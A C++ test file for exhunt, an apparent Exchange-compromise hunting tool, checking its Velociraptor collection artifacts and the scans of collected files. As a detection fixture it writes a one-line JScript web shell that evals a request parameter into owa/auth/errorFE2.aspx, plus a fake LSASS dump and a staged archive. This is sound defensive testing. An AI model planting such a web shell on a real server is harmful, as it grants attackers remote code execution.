// The Velociraptor artifacts of contrib/velociraptor: well-formed as
// Velociraptor documents its artifact fields, and the client artifact's
// globs, applied to a generated server drive with large files exhunt does
// not need, collect what the scan needs and nothing else of size. The
// collection, laid out as a Velociraptor server stores uploads, gives the
// scan the drive gives, and its JSONL results go into the store.
#include <gtest/gtest.h>
#include <yaml-cpp/yaml.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "base/text.h"
#include "test_util.h"
#include "tree_generator.h"

namespace exhunt::testing {
namespace {

namespace fs = std::filesystem;

const std::string kContrib = std::string(EXHUNT_SOURCE_DIR) + "/contrib/velociraptor";

// The top-level fields, parameter fields and parameter types Velociraptor
// documents for artifacts (docs.velociraptor.app: Basic and Advanced
// Fields, Parameters, Sources).
const std::set<std::string> kArtifactFields = {
    "name",         "aliases",   "type",        "description",          "author",
    "reference",    "parameters", "sources",    "precondition",         "required_permissions",
    "implied_permissions", "tools", "export", "imports", "column_types", "resources", "reports"};
const std::set<std::string> kParameterFields = {"name", "default", "description", "type", "friendly_name",
                                                "validating_regex", "choices", "artifact_type"};
const std::set<std::string> kParameterTypes = {"string", "int",     "int64",  "bool",         "timestamp",
                                               "csv",    "json",    "json_array", "choices", "multichoice",
                                               "regex",  "regex_array", "yara", "hidden",   "upload",
                                               "upload_file", "server_metadata", "artifactset", "redacted"};
const std::set<std::string> kArtifactTypes = {"CLIENT", "SERVER", "CLIENT_EVENT", "SERVER_EVENT", "NOTEBOOK"};
const std::set<std::string> kSourceFields = {"name", "description", "query", "precondition", "notebook"};

TEST(Velociraptor, ArtifactsUseOnlyTheDocumentedFields) {
  for (const char* file : {"Windows.Exchange.Exhunt.Collect.yaml", "Server.Exchange.Exhunt.Analyze.yaml"}) {
    SCOPED_TRACE(file);
    YAML::Node a = YAML::LoadFile(kContrib + "/" + file);
    ASSERT_TRUE(a.IsMap());
    for (const auto& kv : a) EXPECT_TRUE(kArtifactFields.count(kv.first.as<std::string>())) << kv.first;
    EXPECT_EQ(a["name"].as<std::string>() + ".yaml", file);
    EXPECT_TRUE(kArtifactTypes.count(a["type"].as<std::string>()));
    EXPECT_GT(a["description"].as<std::string>().size(), 100u);
    std::string queries;
    ASSERT_TRUE(a["sources"].IsSequence());
    for (const auto& s : a["sources"]) {
      for (const auto& kv : s) EXPECT_TRUE(kSourceFields.count(kv.first.as<std::string>())) << kv.first;
      queries += s["query"].as<std::string>();
    }
    ASSERT_TRUE(a["parameters"].IsSequence());
    for (const auto& p : a["parameters"]) {
      for (const auto& kv : p) EXPECT_TRUE(kParameterFields.count(kv.first.as<std::string>())) << kv.first;
      const std::string name = p["name"].as<std::string>();
      if (p["type"]) EXPECT_TRUE(kParameterTypes.count(p["type"].as<std::string>())) << name;
      // Every parameter is used by the query.
      EXPECT_NE(queries.find(name), std::string::npos) << name << " is never used";
      if (p["type"] && p["type"].as<std::string>() == "csv") {
        auto rows = Lines(p["default"].as<std::string>());
        ASSERT_FALSE(rows.empty());
        EXPECT_EQ(rows[0], "Glob,Kind") << name;
      }
    }
  }
}

// --- The globs, as Velociraptor's glob reads them on NTFS ------------------

// {a,b} alternatives expanded (one level of braces per group, as used).
std::vector<std::string> ExpandBraces(const std::string& glob) {
  size_t open = glob.find('{');
  if (open == std::string::npos) return {glob};
  size_t close = glob.find('}', open);
  std::vector<std::string> out;
  const std::string alternatives = glob.substr(open + 1, close - open - 1);
  for (auto alt : Split(alternatives, ','))
    for (auto& rest : ExpandBraces(glob.substr(close + 1))) out.push_back(glob.substr(0, open) + std::string(alt) + rest);
  return out;
}

bool MatchPart(std::string_view pat, std::string_view name) {  // * and ?, case-insensitive
  if (pat.empty()) return name.empty();
  if (pat[0] == '*') {
    for (size_t i = 0; i <= name.size(); ++i)
      if (MatchPart(pat.substr(1), name.substr(i))) return true;
    return false;
  }
  if (name.empty()) return false;
  if (pat[0] != '?' && AsciiLowerCopy(pat.substr(0, 1)) != AsciiLowerCopy(name.substr(0, 1))) return false;
  return MatchPart(pat.substr(1), name.substr(1));
}

// "**" is one or more folders (the stricter reading: a glob that needs it
// to match none must say so with its own line).
bool MatchPath(const std::vector<std::string_view>& pat, size_t p, const std::vector<std::string_view>& path,
               size_t i) {
  if (p == pat.size()) return i == path.size();
  if (pat[p] == "**") {
    for (size_t k = i + 1; k <= path.size(); ++k)
      if (MatchPath(pat, p + 1, path, k)) return true;
    return false;
  }
  return i < path.size() && MatchPart(pat[p], path[i]) && MatchPath(pat, p + 1, path, i + 1);
}

struct Glob {
  std::string pattern, kind;
};

std::vector<Glob> ArtifactGlobs() {
  YAML::Node a = YAML::LoadFile(kContrib + "/Windows.Exchange.Exhunt.Collect.yaml");
  std::vector<Glob> out;
  for (const auto& p : a["parameters"]) {
    const std::string name = p["name"].as<std::string>();
    if (name != "ExchangeGlobs" && name != "SystemGlobs") continue;
    const std::string prefix = name == "ExchangeGlobs" ? "Program Files/Microsoft/Exchange Server/V15/" : "";
    auto rows = Lines(p["default"].as<std::string>());
    for (size_t i = 1; i < rows.size(); ++i) {
      size_t comma = rows[i].rfind(',');
      for (const auto& g : ExpandBraces(rows[i].substr(0, comma))) out.push_back({prefix + g, rows[i].substr(comma + 1)});
    }
  }
  return out;
}

bool Collected(const std::vector<Glob>& globs, const std::string& rel) {
  auto path = Split(rel, '/');
  for (const auto& g : globs) {
    auto pat = Split(g.pattern, '/');
    if (MatchPath(pat, 0, path, 0)) return true;
  }
  return false;
}

void WriteSized(const std::string& path, const std::string& head, size_t size) {
  std::string bytes = head;
  bytes.resize(size, 'x');
  Write(path, bytes);
}

// rule, path and line of every finding, the verdict and the coverage
// families of one host's JSONL, with `prefix` taken off the paths.
struct Summary {
  std::set<std::string> findings;
  std::string verdict;
  std::set<std::string> families;
};
Summary Summarise(const std::string& jsonl, const std::string& prefix) {
  Summary s;
  for (const auto& line : Lines(jsonl)) {
    if (line.starts_with("{\"type\":\"finding\"")) {
      std::string rule = line.substr(line.find("\"rule\":\"") + 8);
      rule = rule.substr(0, rule.find('"'));
      std::string source = line.substr(line.find("\"source\":{") + 10);
      source = source.substr(0, source.find('}'));
      size_t at = source.find(prefix);
      if (!prefix.empty() && at != std::string::npos) source.erase(at, prefix.size());
      s.findings.insert(rule + " " + source);
    } else if (line.starts_with("{\"type\":\"host\"")) {
      s.verdict = line.substr(line.find("\"verdict\":\"") + 11);
      s.verdict = s.verdict.substr(0, s.verdict.find('"'));
      std::string families = line.substr(line.find("\"families\":{") + 12);
      for (size_t p = 0; (p = families.find("\":{\"files\"", p)) != std::string::npos; ++p) {
        size_t q = families.rfind('"', p - 1);
        s.families.insert(families.substr(q + 1, p - q - 1));
      }
    }
  }
  return s;
}

TEST(Velociraptor, TheGlobsCollectWhatTheScanNeedsAndTheCollectionScansAsTheDrive) {
  const std::string dir = Dir("velociraptor");
  const std::string drive = dir + "/drive/EXCH07";
  gen::GenOptions g;
  g.out = drive;
  g.seed = 3;
  g.start = DaysFromCivil(2021, 3, 2) * 86400000LL;
  g.hours = 5;
  g.scenarios = {"proxylogon", "scanners"};
  g.event_logs = true;
  auto truth = gen::GenerateTree(g);
  ASSERT_TRUE(truth.ok()) << truth.status().message();
  const std::string v15 = drive + "/Program Files/Microsoft/Exchange Server/V15";
  // What an attacker left that the file plane finds: an LSASS dump and an
  // archive staged for exfiltration, and a shell in owa/auth.
  WriteSized(drive + "/ProgramData/lsass.dmp", std::string("MDMP\x93\xa7", 6), 300000);
  WriteSized(drive + "/Windows/Temp/out/mail.7z", std::string("7z\xBC\xAF\x27\x1C", 6), 200000);
  Write(v15 + "/FrontEnd/HttpProxy/owa/auth/errorFE2.aspx",
        "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>");
  // Large things on every Exchange server that exhunt does not need.
  const std::vector<std::string> noise = {
      v15 + "/Mailbox/Mailbox Database 0291/Mailbox Database 0291.edb",
      v15 + "/ClientAccess/OAB/5c8e3a1b-0000-4c1e-9f6a-1234567890ab/oab.lzx",
      v15 + "/Bin/Microsoft.Exchange.Data.Storage.dll",
      v15 + "/TransportRoles/data/Queue/mail.que",
      drive + "/pagefile.sys",
      drive + "/Windows/System32/config/SOFTWARE",
      drive + "/inetpub/wwwroot/iisstart.png",
  };
  for (const auto& n : noise) WriteSized(n, "MZ", 4 << 20);

  // Apply the artifact's globs: copy what they match into the layout a
  // Velociraptor server stores uploads in (the drive letter's colon and
  // every '%' escaped).
  const auto globs = ArtifactGlobs();
  ASSERT_GT(globs.size(), 20u);
  const std::string coll = dir + "/collections/EXCH07";
  const std::string prefix = "uploads/auto/C%3A/";
  uint64_t collected_bytes = 0, drive_bytes = 0;
  std::set<std::string> collected;
  for (const auto& e : fs::recursive_directory_iterator(drive)) {
    if (!e.is_regular_file()) continue;
    const std::string rel = fs::relative(e.path(), drive).generic_string();
    drive_bytes += e.file_size();
    if (!Collected(globs, rel)) continue;
    collected.insert(rel);
    collected_bytes += e.file_size();
    std::string stored = rel;
    for (size_t at = 0; (at = stored.find('%', at)) != std::string::npos; at += 3) stored.replace(at, 1, "%25");
    fs::create_directories(fs::path(coll + "/" + prefix + stored).parent_path());
    fs::copy_file(e.path(), coll + "/" + prefix + stored);
  }
  for (const auto& n : noise) EXPECT_FALSE(collected.count(fs::relative(n, drive).generic_string())) << n;
  EXPECT_LT(collected_bytes + 7 * (4 << 20), drive_bytes + 1);

  CliRun on_drive = Exhunt("scan '" + drive + "' --format jsonl --quiet");
  ASSERT_EQ(on_drive.status, 1) << on_drive.err;
  CliRun on_collection = Exhunt("scan '" + coll + "' --format jsonl --quiet");
  ASSERT_EQ(on_collection.status, 1) << on_collection.err;
  Summary a = Summarise(on_drive.out, ""), b = Summarise(on_collection.out, prefix);
  EXPECT_EQ(a.verdict, "compromised");
  EXPECT_EQ(b.verdict, a.verdict);
  EXPECT_EQ(b.families, a.families);
  // Every finding of the drive comes from a collected file, and the
  // collection finds exactly the same (the Sysmon log's stored name keeps
  // its escape, so its paths are compared as stored).
  std::set<std::string> drive_findings;
  for (auto f : a.findings) {
    for (size_t at = 0; (at = f.find("Sysmon%4", at)) != std::string::npos; at += 3) f.replace(at, 8, "Sysmon%254");
    drive_findings.insert(f);
  }
  EXPECT_EQ(b.findings, drive_findings);
  EXPECT_GT(a.findings.size(), 20u);
  bool saw_dump = false, saw_shell = false;
  for (const auto& f : b.findings) {
    saw_dump |= f.find("ProgramData/lsass.dmp") != std::string::npos;
    saw_shell |= f.find("owa/auth/errorFE2.aspx") != std::string::npos;
  }
  EXPECT_TRUE(saw_dump);
  EXPECT_TRUE(saw_shell);

  // The server artifact's rows are exhunt's JSONL: imported into the
  // store, they report the verdict the collection gave.
  Write(dir + "/rows.jsonl", on_collection.out);
  const std::string db = dir + "/fleet.db";
  CliRun import = Exhunt("import '" + dir + "/rows.jsonl' --db '" + db + "'");
  ASSERT_EQ(import.status, 0) << import.err;
  CliRun report = Exhunt("report '" + db + "' --format jsonl");
  ASSERT_EQ(report.status, 0) << report.err;
  EXPECT_EQ(report.out, on_collection.out);
  // A folder of collections is a fleet.
  fs::create_directories(dir + "/collections/EXCH08");
  fs::copy(coll, dir + "/collections/EXCH08", fs::copy_options::recursive);
  CliRun fleet = Exhunt("scan '" + dir + "/collections' --format jsonl");
  EXPECT_NE(fleet.err.find("a fleet of 2 hosts"), std::string::npos) << fleet.err;
  EXPECT_NE(fleet.out.find("\"host\":\"EXCH08\",\"verdict\":\"compromised\""), std::string::npos);
}

}  // namespace
}  // namespace exhunt::testing
